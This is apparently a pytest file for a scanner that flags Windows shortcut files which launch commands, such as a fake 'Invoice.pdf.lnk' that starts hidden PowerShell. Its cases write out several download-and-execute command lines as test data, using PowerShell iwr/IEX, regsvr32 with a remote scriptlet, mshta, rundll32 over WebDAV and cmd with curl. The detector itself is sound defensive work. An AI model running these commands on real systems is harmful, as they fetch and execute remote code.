"""Windows shortcuts that run a command (``detectors/uploads/shortcut.py``).

Found by probing: a zip holding ``Invoice_2291.pdf.lnk``, a shortcut starting PowerShell hidden to
download and run a script (how mail campaigns delivered their payloads from 2022), was clean, the
scan complete: the shortcut was read as binary."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aup.detectors.uploads import shortcut
from aup.detectors.uploads.scanner import ScanStatus
from aup.detectors.uploads.verdict import Verdict
from tests.eval import files as F
from tests.unit.uploads.test_containers_and_content import judge, rules_of

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CMD = r"C:\Windows\System32\cmd.exe"
EXPLOIT, COMMAND = shortcut.SHORTCUT_EXPLOIT, shortcut.SHORTCUT_COMMAND


def test_a_shortcut_is_read_for_its_target_and_arguments() -> None:
    lnk = F.shortcut(r"C:\Program Files\App\app.exe", "--profile work", relative=r"..\..\App\app.exe")
    found = shortcut.read(lnk)
    assert found is not None
    assert r"C:\Program Files\App\app.exe" in found.target and r"..\..\App\app.exe" in found.target
    assert found.arguments == "--profile work"


def test_a_cut_shortcut_or_another_file_is_none() -> None:
    lnk = F.shortcut(PS, "-c Get-Date")
    assert shortcut.read(lnk[:-6]) is None  # its arguments cut
    assert shortcut.read(b"MZ" + bytes(100)) is None


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_after_the_header_never_raise(tail: bytes) -> None:
    found = shortcut.read(shortcut.MAGIC + tail)
    assert found is None or isinstance(found.arguments, str)


@pytest.mark.parametrize(
    ("target", "arguments", "name", "expected"),
    [
        (PS, '-w hidden -c "iwr http://185.1.2.3/a.ps1 -OutFile a.ps1; .\\a.ps1"', "Invoice.pdf.lnk", EXPLOIT),
        (PS, "-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "Scan.lnk", EXPLOIT),
        (PS, "-c \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')\"", "a.lnk", EXPLOIT),
        (r"C:\Windows\System32\mshta.exe", "javascript:a=new ActiveXObject('WScript.Shell')", "a.lnk", EXPLOIT),
        (r"C:\Windows\System32\regsvr32.exe", "/s /n /u /i:http://x.example/a.sct scrobj.dll", "a.lnk", EXPLOIT),
        (r"C:\Windows\System32\rundll32.exe", r"\\files.example.net@SSL\DavWWWRoot\a.dll,Start", "a.lnk", EXPLOIT),
        (CMD, "/c curl -s https://x.example/p.bat -o %TEMP%\\p.bat && %TEMP%\\p.bat", "Photos.lnk", EXPLOIT),
        (PS, r"-ExecutionPolicy Bypass -WindowStyle Hidden -File \\fs01\netlogon\map.ps1", "Logon.lnk", COMMAND),
        (CMD, r"/c robocopy C:\Users\ana\Documents \\nas\backup /MIR", "Backup.lnk", COMMAND),
        (CMD, "", "Report.pdf.lnk", COMMAND),  # a script host named as a document
        (CMD, "", "Command Prompt.lnk", None),
        (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "https://mail.example.com", "Mail.lnk", None),
        (r"C:\Windows\explorer.exe", r"\\fs01\team", "Team share.lnk", None),
        (r"C:\Windows\notepad.exe", r"C:\notes\cmd.txt", "Notes.lnk", None),
    ],
)  # fmt: skip
def test_shortcuts_are_judged_by_what_they_run(
    target: str, arguments: str, name: str, expected: str | None
) -> None:
    found = shortcut.read(F.shortcut(target, arguments))
    assert found is not None
    assert shortcut.judge(found, name) == expected


def test_a_zipped_shortcut_running_a_download_is_a_launch() -> None:
    lnk = F.shortcut(
        PS, '-w hidden -c "iwr http://185.1.2.3/a.ps1 | iex"', icon=r"C:\Program Files\Adobe\a.exe"
    )
    v, result, findings = judge(F.zip_of([("Invoice_2291.pdf.lnk", lnk)]), "invoice.zip")
    assert v is Verdict.threat and rules_of(findings) == {"I3-script-in-document"}
    assert findings[0].confidence == 0.9 and result.status is ScanStatus.complete
    assert "185.1.2.3" not in str(findings[0].evidence)  # the marker, never the command


def test_a_desktops_shortcuts_are_no_launch() -> None:
    desktop = F.zip_of([
        ("Desktop/Chrome.lnk", F.shortcut(r"C:\Program Files\Google\Chrome\Application\chrome.exe")),
        ("Desktop/Team share.lnk", F.shortcut(r"C:\Windows\explorer.exe", r"\\fs01\team")),
        ("Desktop/notes.txt", b"call the bank"),
    ])  # fmt: skip
    v, result, findings = judge(desktop, "desktop.zip")
    assert v is Verdict.clean and not findings and result.status is ScanStatus.complete


def test_a_shortcut_cut_short_is_never_clean() -> None:
    lnk = F.shortcut(PS, "-c " + "x" * 400)
    v, result, _ = judge(lnk[: len(lnk) - random.Random(1).randrange(1, 400)], "a.lnk")
    assert v is not Verdict.clean and result.status is ScanStatus.unsupported
